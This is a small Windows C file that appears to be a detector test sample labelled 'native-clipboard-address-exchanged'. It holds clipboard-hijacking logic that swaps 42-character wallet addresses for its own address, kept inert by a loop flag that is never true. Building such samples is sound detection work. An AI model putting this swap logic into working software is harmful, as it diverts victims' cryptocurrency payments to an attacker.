/* Puts an address of its own into the clipboard, over and over.
 * expect: native-clipboard-address-exchanged
 * for: windows
 * flags: -O2 -mwindows -luser32
 */
#include <string.h>
#include <windows.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;

int WINAPI WinMain(HINSTANCE a, HINSTANCE b, LPSTR c, int d) {
    while (never) {
        if (OpenClipboard(0)) {
            char *text = GetClipboardData(CF_TEXT);
            if (text && strlen(text) == 42) {
                char *own = GlobalAlloc(GMEM_FIXED, 64);
                lstrcpyA(own, "bc1qexamplexamplexamplexamplexamplexample0");
                EmptyClipboard();
                SetClipboardData(CF_TEXT, own);
            }
            CloseClipboard();
        }
        Sleep(500);
    }
    return 0;
}
